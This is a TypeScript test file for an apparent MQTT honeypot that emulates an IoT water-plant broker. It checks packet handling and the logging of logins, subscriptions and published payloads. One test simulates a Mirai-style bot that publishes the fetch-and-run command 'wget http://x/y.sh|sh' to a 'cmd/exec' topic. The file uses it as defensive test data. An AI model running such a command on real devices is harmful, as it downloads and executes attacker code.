import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { startTestDecky, type TestDecky } from '../harness.ts';
import { RawTcp, sendGarbage } from './net-support.ts';

function varint(n: number): Buffer {
  const out: number[] = [];
  do {
    let b = n % 128;
    n = Math.floor(n / 128);
    if (n > 0) b |= 0x80;
    out.push(b);
  } while (n > 0);
  return Buffer.from(out);
}
const str = (s: string | Buffer): Buffer => {
  const b = Buffer.from(s);
  const l = Buffer.alloc(2);
  l.writeUInt16BE(b.length);
  return Buffer.concat([l, b]);
};
const pkt = (first: number, body: Buffer): Buffer => Buffer.concat([Buffer.from([first]), varint(body.length), body]);

function connectPacket(o: { level?: number; clientId: string; user?: string; pass?: string; will?: string }): Buffer {
  const level = o.level ?? 4;
  let flags = 0x02;
  if (o.user !== undefined) flags |= 0x80;
  if (o.pass !== undefined) flags |= 0x40;
  if (o.will !== undefined) flags |= 0x04;
  const parts = [str('MQTT'), Buffer.from([level, flags, 0, 60])];
  if (level === 5) parts.push(Buffer.from([0]));
  parts.push(str(o.clientId));
  if (o.will !== undefined) {
    if (level === 5) parts.push(Buffer.from([0]));
    parts.push(str(o.will), str('bye'));
  }
  if (o.user !== undefined) parts.push(str(o.user));
  if (o.pass !== undefined) parts.push(str(o.pass));
  return pkt(0x10, Buffer.concat(parts));
}

/** Reads one MQTT packet: [type, flags, body]. */
async function readPacket(c: RawTcp): Promise<{ type: number; flags: number; body: Buffer }> {
  const first = (await c.read(1))[0]!;
  let len = 0;
  for (let i = 0; i < 4; i++) {
    const b = (await c.read(1))[0]!;
    len += (b & 0x7f) * 128 ** i;
    if ((b & 0x80) === 0) break;
  }
  return { type: first >> 4, flags: first & 0xf, body: await c.read(len) };
}

let open: TestDecky;
let locked: TestDecky;
before(async () => {
  open = await startTestDecky({ services: [{ name: 'mqtt', config: { topics: 'water_plant' } }], persona: { archetype: 'iot-device', osFamily: 'embedded' } });
  locked = await startTestDecky({ services: [{ name: 'mqtt', config: { allow_anonymous: 'false', credentials: 'plc:plc123' } }] });
});
after(async () => {
  await open.stop();
  await locked.stop();
});

test('open broker: credentials, subscriptions with retained persona topics, publish', async () => {
  const c = await RawTcp.open(open.ip, open.port('mqtt'));
  c.write(connectPacket({ clientId: 'mirai-7', user: 'admin', pass: 'p@ss\u00e9', will: 'dead/bot' }));
  const ack = await readPacket(c);
  assert.equal(ack.type, 2);
  assert.deepEqual([...ack.body], [0, 0]);

  c.write(pkt(0x82, Buffer.concat([Buffer.from([0, 1]), str('plant/#'), Buffer.from([1]), str('$SYS/broker/version'), Buffer.from([0])])));
  const suback = await readPacket(c);
  assert.equal(suback.type, 9);
  assert.deepEqual([...suback.body], [0, 1, 1, 0]);
  const topics = new Map<string, string>();
  while (topics.size < 9) {
    const p = await readPacket(c);
    assert.equal(p.type, 3);
    assert.equal(p.flags & 1, 1, 'retained');
    const tlen = p.body.readUInt16BE(0);
    topics.set(p.body.subarray(2, 2 + tlen).toString(), p.body.subarray(2 + tlen).toString());
  }
  assert.equal(topics.get('$SYS/broker/version'), 'mosquitto version 2.0.18');
  assert.ok([...topics.keys()].some((t) => /^plant\/[\w-]+\/pump\/1\/status$/.test(t)));

  // QoS 1 publish gets a PUBACK with the same packet id.
  c.write(pkt(0x32, Buffer.concat([str('cmd/exec'), Buffer.from([0x12, 0x34]), Buffer.from('wget http://x/y.sh|sh')])));
  const puback = await readPacket(c);
  assert.equal(puback.type, 4);
  assert.deepEqual([...puback.body], [0x12, 0x34]);
  c.write(Buffer.from([0xc0, 0]));
  assert.equal((await readPacket(c)).type, 13, 'PINGRESP');
  c.write(Buffer.from([0xe0, 0]));
  await c.closed();

  const auth = await open.waitForEvent((e) => e.service === 'mqtt' && e.event === 'auth_attempt');
  assert.equal(auth.fields.username, 'admin');
  assert.equal(auth.fields.client_id, 'mirai-7');
  assert.equal(auth.fields.protocol_level, '4');
  assert.equal(auth.fields.will_topic, 'dead/bot');
  assert.equal(auth.fields.success, 'true');
  assert.equal(auth.secret!.toString('utf8'), 'p@ss\u00e9');
  const sub = await open.waitForEvent((e) => e.event === 'subscribe');
  assert.equal(sub.fields.topics, 'plant/#,$SYS/broker/version');
  const pub = await open.waitForEvent((e) => e.event === 'publish');
  assert.deepEqual([pub.fields.topic, pub.fields.qos, pub.fields.payload], ['cmd/exec', '1', 'wget http://x/y.sh|sh']);
});

test('MQTT 5 connect and wildcard # does not leak $SYS topics', async () => {
  const c = await RawTcp.open(open.ip, open.port('mqtt'));
  c.write(connectPacket({ level: 5, clientId: 'v5' }));
  const ack = await readPacket(c);
  assert.deepEqual([...ack.body], [0, 0, 0]);
  c.write(pkt(0x82, Buffer.concat([Buffer.from([0, 7, 0]), str('#'), Buffer.from([0])])));
  const suback = await readPacket(c);
  assert.deepEqual([...suback.body], [0, 7, 0, 0]);
  const first = await readPacket(c);
  const tlen = first.body.readUInt16BE(0);
  assert.ok(first.body.subarray(2, 2 + tlen).toString().startsWith('plant/'));
  c.close();
  await open.waitForEvent((e) => e.event === 'auth_attempt' && e.fields.protocol_level === '5' && e.fields.auth_method === 'anonymous');
});

test('broker with a password list rejects wrong and anonymous logins, accepts the configured one', async () => {
  const tryLogin = async (user?: string, pass?: string): Promise<number> => {
    const c = await RawTcp.open(locked.ip, locked.port('mqtt'));
    c.write(connectPacket({ clientId: 'x', user, pass }));
    const ack = await readPacket(c);
    c.close();
    return ack.body[1]!;
  };
  assert.equal(await tryLogin('plc', 'wrong'), 4);
  assert.equal(await tryLogin(), 5);
  assert.equal(await tryLogin('plc', 'plc123'), 0);
  const fail = await locked.waitForEvent((e) => e.event === 'auth_attempt' && e.secret?.toString() === 'wrong');
  assert.equal(fail.fields.success, 'false');
  const ok = await locked.waitForEvent((e) => e.event === 'auth_attempt' && e.secret?.toString() === 'plc123');
  assert.equal(ok.fields.success, 'true');
});

test('malformed packets close the connection and the broker keeps serving', async () => {
  await sendGarbage(open.ip, open.port('mqtt'), Buffer.from([0x10, 0xff, 0xff, 0xff, 0xff, 0x01]));
  await sendGarbage(open.ip, open.port('mqtt'), Buffer.from([0x30, 0x02, 0x00, 0x00]));
  await open.waitForEvent((e) => e.service === 'mqtt' && e.event === 'payload' && e.fields.reason === 'protocol_error');
  const t = await RawTcp.open(open.ip, open.port('mqtt'));
  t.write(connectPacket({ clientId: 'trunc' }).subarray(0, 9));
  t.close();
  const c = await RawTcp.open(open.ip, open.port('mqtt'));
  c.write(connectPacket({ clientId: 'after' }));
  assert.deepEqual([...(await readPacket(c)).body], [0, 0]);
  c.close();
});
